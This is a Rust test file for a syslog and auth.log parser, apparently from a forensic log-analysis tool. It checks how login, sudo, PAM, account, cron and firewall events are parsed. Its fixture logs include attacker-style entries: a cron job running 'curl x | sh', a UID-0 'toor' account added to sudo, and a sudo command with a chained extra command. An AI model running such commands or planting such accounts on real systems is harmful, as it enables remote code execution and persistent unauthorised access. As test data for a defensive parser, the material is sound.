@@ -1,0 +1,122 @@
+use super::*;
+use crate::testing::parse;
+use proptest::prelude::*;
+use serde_json::json;
+
+#[test]
+fn each_form_gives_the_same_record() {
+    let log = b"Feb 29 23:59:58 ferry sshd[42]: Accepted password for root from 192.0.2.7 port 4711 ssh2
+<38>Feb  9 03:00:00 ferry sshd[42]: Accepted password for root from 192.0.2.7 port 4711 ssh2
+2024-02-29T23:59:58.5+01:00 ferry sshd[42]: Accepted password for root from 192.0.2.7 port 4711 ssh2
+<38>1 2024-02-29T23:59:58Z ferry sshd 42 - [a x=\"]\\\"\"][b] \xef\xbb\xbfAccepted password for root from 192.0.2.7 port 4711 ssh2\n";
+    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log);
+    let times = ["2024-02-29T23:59:58Z", "2024-02-09T03:00:00Z", "2024-02-29T22:59:58.5Z", "2024-02-29T23:59:58Z"];
+    assert_eq!(parsed.all("time"), times);
+    let bases = ["year-and-zone-inferred", "year-and-zone-inferred", "stated", "stated"];
+    assert_eq!(parsed.all("basis"), bases);
+    for event in &parsed.events {
+        for (name, value) in [
+            ("kind", json!("ssh.login")),
+            ("host", json!("ferry")),
+            ("program", json!("sshd")),
+            ("pid", json!(42)),
+            ("user", json!("root")),
+            ("address", json!("192.0.2.7")),
+            ("port", json!(4711)),
+            ("method", json!("password")),
+        ] {
+            assert_eq!(event[name], value, "{event}");
+        }
+    }
+    assert_eq!((parsed.row.records, parsed.row.others, parsed.error), (4, 0, None));
+    let reason =
+        "years counted back from the file's last change on 2024-03-01; zone UTC taken, since the image tells none";
+    assert_eq!(parsed.row.times.as_deref(), Some(reason));
+}
+
+#[test]
+fn the_user_of_a_failed_login_is_the_one_that_was_tried() {
+    let log = b"Jan  1 00:00:00 h sshd[1]: Failed password for invalid user oracle from 192.0.2.7 port 1 ssh2
+Jan  1 00:00:00 h sshd[1]: Failed none for invalid user a from b from 2001:db8::1 port 2 ssh2
+Jan  1 00:00:00 h sshd[1]: Disconnected from authenticating user root 192.0.2.7 port 3 [preauth]
+Jan  1 00:00:00 h sshd[1]: Accepted publickey for anna from 192.0.2.7 port 4 ssh2: RSA SHA256:abc\n";
+    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log);
+    assert_eq!(parsed.all("user"), ["oracle", "a from b", "root", "anna"]);
+    assert_eq!(parsed.all("address"), ["192.0.2.7", "2001:db8::1", "192.0.2.7", "192.0.2.7"]);
+    assert_eq!(parsed.all("port"), [1, 2, 3, 4]);
+    assert_eq!(parsed.all("key"), [json!(null), json!(null), json!(null), json!("RSA SHA256:abc")]);
+}
+
+#[test]
+fn zeroes_of_a_crash_and_lines_of_no_form_are_told_and_the_rest_goes_on() {
+    let log =
+        b"Jan  1 00:00:00 h a: one\n\0\0\0Jan  1 00:00:01 h a: two\n\0\0\0\nno syslog\nJan  1 00:00:02 h a: \xff\x1b\n";
+    let parsed = parse(&Syslog, "/var/log/syslog", "2024-03-01T12:00:00Z", log);
+    let messages = [json!("one"), json!("two"), json!("no syslog"), json!("\\xff\\u{1b}")];
+    assert_eq!(parsed.all("message"), messages);
+    assert_eq!((parsed.row.records, parsed.row.others, parsed.issues.len()), (3, 1, 3));
+    assert_eq!(parsed.issues[2].to_string(), "/var/log/syslog, bytes 57-67: no line of syslog");
+}
+
+#[test]
+fn commands_accounts_and_sessions_have_fields_of_their_own() {
+    let log = b"Jan  1 00:00:00 h sudo:     anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/bin/sh -c a ; b
+Jan  1 00:00:00 h sudo:     anna : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id
+Jan  1 00:00:00 h su[7]: (to root) anna on pts/1
+Jan  1 00:00:00 h sshd[7]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)
+Jan  1 00:00:00 h vsftpd: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=anna rhost=192.0.2.7  user=anna
+Jan  1 00:00:00 h useradd[7]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0
+Jan  1 00:00:00 h usermod[7]: add 'toor' to group 'sudo'
+Jan  1 00:00:00 h passwd[7]: pam_unix(passwd:chauthtok): password changed for toor
+Jan  1 00:00:00 h CRON[7]: (root) CMD (   curl x | sh)
+Jan  1 00:00:00 h crontab[7]: (anna) REPLACE (anna)
+Jan  1 00:00:00 h systemd[1]: Started ssh.service - OpenBSD Secure Shell server.
+Jan  1 00:00:00 h kernel: [  12.345] [UFW BLOCK] IN=eth0 OUT= MAC= SRC=192.0.2.7 DST=10.0.0.1 LEN=40 PROTO=TCP SPT=1 DPT=23\n";
+    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log);
+    let expected = [
+        json!({"kind": "sudo.command", "user": "anna", "tty": "pts/0", "directory": "/home/anna", "target": "root",
+            "command": "/bin/sh -c a ; b"}),
+        json!({"kind": "sudo.refused", "user": "anna", "reason": "3 incorrect password attempts", "command": "/bin/id"}),
+        json!({"kind": "su.session", "user": "anna", "target": "root", "tty": "pts/1", "pid": 7}),
+        json!({"kind": "pam.session-opened", "user": "root", "service": "sshd", "uid": 0, "by_uid": 0}),
+        json!({"kind": "pam.failed", "user": "anna", "address": "192.0.2.7", "service": "vsftpd", "tty": "ftp"}),
+        json!({"kind": "account.added", "user": "toor", "uid": 0, "gid": 0, "home": "/root", "shell": "/bin/bash"}),
+        json!({"kind": "account.group-joined", "user": "toor"}),
+        json!({"kind": "account.password-changed", "user": "toor"}),
+        json!({"kind": "cron.command", "user": "root", "command": "curl x | sh"}),
+        json!({"kind": "cron.changed", "user": "anna", "action": "REPLACE", "target": "anna"}),
+        json!({"kind": "systemd.unit", "unit": "ssh.service", "action": "Started"}),
+        json!({"kind": "kernel.firewall", "prefix": "[UFW BLOCK]", "address": "192.0.2.7", "destination": "10.0.0.1",
+            "port": 1, "to_port": 23, "protocol": "TCP", "interface": "eth0"}),
+    ];
+    assert_eq!(parsed.events.len(), expected.len());
+    for (event, expected) in parsed.events.iter().zip(&expected) {
+        for (name, value) in expected.as_object().unwrap() {
+            assert_eq!(&event[name], value, "{name} of {event}");
+        }
+    }
+}
+
+proptest! {
+    #[test]
+    fn any_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..200), start in 0..STARTS.len()) {
+        let _ = parse(&Syslog, "/x", "2024-03-01T12:00:00Z", &[STARTS[start], &bytes].concat());
+    }
+}
+
+/// Beginnings of lines that lead into each part of the parser.
+const STARTS: [&[u8]; 13] = [
+    b"",
+    b"<1>",
+    b"<38>1 ",
+    b"<38>1 - - - - - [a b=\"",
+    b"2024-02-29T23:59:58 h sshd: Disconnected from ",
+    b"Feb 29 23:59:58 h sshd[42]: Failed ",
+    b"Feb 29 23:59:58 h sshd[42]: Accepted password for ",
+    b"Feb 29 23:59:58 h sudo: anna : TTY=",
+    b"Feb 29 23:59:58 h su: (to ",
+    b"Feb 29 23:59:58 h x: pam_unix(x:y): authentication failure; ",
+    b"Feb 29 23:59:58 h useradd: new user: name=",
+    b"Feb 29 23:59:58 h CRON[1]: (root) ",
+    b"Feb 29 23:59:58 h kernel: [1] IN= SRC=",
+];
